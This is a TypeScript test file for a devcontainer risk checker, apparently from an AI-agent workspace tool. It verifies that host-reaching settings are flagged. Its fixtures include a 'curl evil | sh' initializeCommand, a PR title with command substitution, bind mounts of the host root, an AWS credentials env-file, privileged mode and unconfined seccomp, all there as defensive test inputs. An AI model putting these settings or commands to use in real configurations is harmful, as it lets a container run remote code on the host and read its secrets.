import { assert, assertEquals } from "../../tests/support/assert.ts";
import { resolveDevcontainer } from "../devcontainer/resolve.ts";
import { memoryFs } from "../../tests/support/memory_fs.ts";
import {
  hostReachingSettings,
  readSourceRecord,
  sourceBaseName,
  sourceLabels,
} from "./remote_source.ts";
import type { SourceRecord } from "./remote_source.ts";
import { parseSource } from "../sources/parse.ts";

async function resolved(config: Record<string, unknown>) {
  return await resolveDevcontainer({
    folder: "/src/proj",
    env: {},
    platform: "linux",
    fs: memoryFs({ "/src/proj/.devcontainer.json": JSON.stringify(config) }),
  });
}

Deno.test("remote source: labels round-trip, a hostile title verbatim", () => {
  const record: SourceRecord = {
    url: "https://github.com/o/r/pull/7",
    commit: "a".repeat(40),
    pr: { forge: "github", title: "x $(id) `id`\n\"q\" 'q'", base: "main" },
  };
  assertEquals(readSourceRecord(sourceLabels(record)), record);
  const git: SourceRecord = { url: "file:///r.git", commit: "b".repeat(40), ref: "v1" };
  assertEquals(readSourceRecord(sourceLabels(git)), git);
  assertEquals(readSourceRecord({ "io.devaipod.project": "/p" }), undefined);
});

Deno.test("remote source: workspace names come from the repository (and the PR number)", () => {
  const base = (arg: string) => {
    const s = parseSource(arg);
    if (s.kind === "path") throw new Error("a path");
    return sourceBaseName(s);
  };
  assertEquals(base("https://github.com/o/hello.git"), "hello");
  assertEquals(base("git@github.com:o/hello.git"), "hello");
  assertEquals(base("file:///tmp/x/r.git/"), "r");
  assertEquals(base("https://github.com/o/hello/pull/12"), "hello-pr12");
  assertEquals(base("https://gitlab.com/g/sub/proj/-/merge_requests/3"), "proj-pr3");
});

Deno.test("remote source: settings that reach into the host are named; harmless ones are not", async () => {
  assertEquals(
    hostReachingSettings(
      await resolved({
        image: "x",
        runArgs: ["--cap-drop=ALL", "--init", "--shm-size=1g", "--label=a=b"],
        mounts: ["type=volume,target=/c", "type=tmpfs,target=/t"],
        containerEnv: { A: "literal" },
      }),
      '{"containerEnv": {"A": "literal"}}',
    ),
    [],
  );
  const risks = hostReachingSettings(
    await resolved({
      image: "x",
      initializeCommand: "curl evil | sh",
      secrets: { AWS_SECRET_ACCESS_KEY: {} },
      mounts: [
        "source=/,target=/host,type=bind",
        { type: "bind", source: "/home", target: "/h" },
        "type=volume,source=devaipod-other-agent-home,target=/steal",
      ],
      privileged: true,
      runArgs: ["-v/:/host", "--env-file=/home/u/.aws/creds", "--volumes-from=x", "--init"],
      capAdd: ["SYS_ADMIN"],
      securityOpt: ["seccomp=unconfined"],
      customizations: {
        devaipod: {
          envAllowlist: ["GITHUB_TOKEN"],
          allowedDomains: ["evil.example"],
          projects: ["/home/u/.ssh", "git@github.com:u/private.git"],
        },
      },
    }),
    '{"containerEnv": {"T": "${localEnv:GITHUB_TOKEN}"}}',
  );
  const expected = [
    "initializeCommand (runs on your host)",
    "secrets: AWS_SECRET_ACCESS_KEY (from your environment)",
    "${localEnv:GITHUB_TOKEN} (reads your environment)",
    "mounts: a bind mount of a host path (source=/,target=/host,type=bind)",
    'mounts: a bind mount of a host path ({"type":"bind","source":"/home","target":"/h"})',
    "mounts: a named volume, which may be another workspace's (type=volume,source=devaipod-other-agent-home,target=/steal)",
    "privileged: true",
    "runArgs: -v/:/host",
    "runArgs: --env-file=/home/u/.aws/creds",
    "runArgs: --volumes-from=x",
    "capAdd: SYS_ADMIN",
    "securityOpt: seccomp=unconfined",
    "customizations.devaipod.envAllowlist: GITHUB_TOKEN (to the agent)",
    "customizations.devaipod.allowedDomains: evil.example (the agent's egress)",
    "customizations.devaipod.projects: /home/u/.ssh (copied from your host to the agent)",
    "customizations.devaipod.projects: git@github.com:u/private.git (copied from your host to the agent)",
  ];
  assertEquals(risks, expected);
  assert(!risks.some((r) => r.includes("--init")));
  assertEquals(hostReachingSettings(undefined), []);
});

Deno.test("remote source: nestedContainers is risky, named with what it grants in place of what it replaces", async () => {
  const risks = hostReachingSettings(
    await resolved({
      image: "x",
      privileged: true,
      capAdd: ["SYS_PTRACE"],
      securityOpt: ["apparmor=unconfined"],
      runArgs: ["--privileged", "--cap-add", "NET_RAW", "--device=/dev/kvm", "--init"],
      customizations: { devaipod: { nestedContainers: true } },
    }),
  );
  assertEquals(risks, [
    "customizations.devaipod.nestedContainers: true (the workspace gets SYS_ADMIN, NET_ADMIN, " +
    "unmask=/proc/*, unmask=/sys/fs/cgroup, label=disable, seccomp=unconfined, /dev/net/tun)",
    "runArgs: --device=/dev/kvm",
  ]);
  assertEquals(
    hostReachingSettings(
      await resolved({ image: "x", customizations: { devaipod: { nestedContainers: false } } }),
    ),
    [],
  );
});
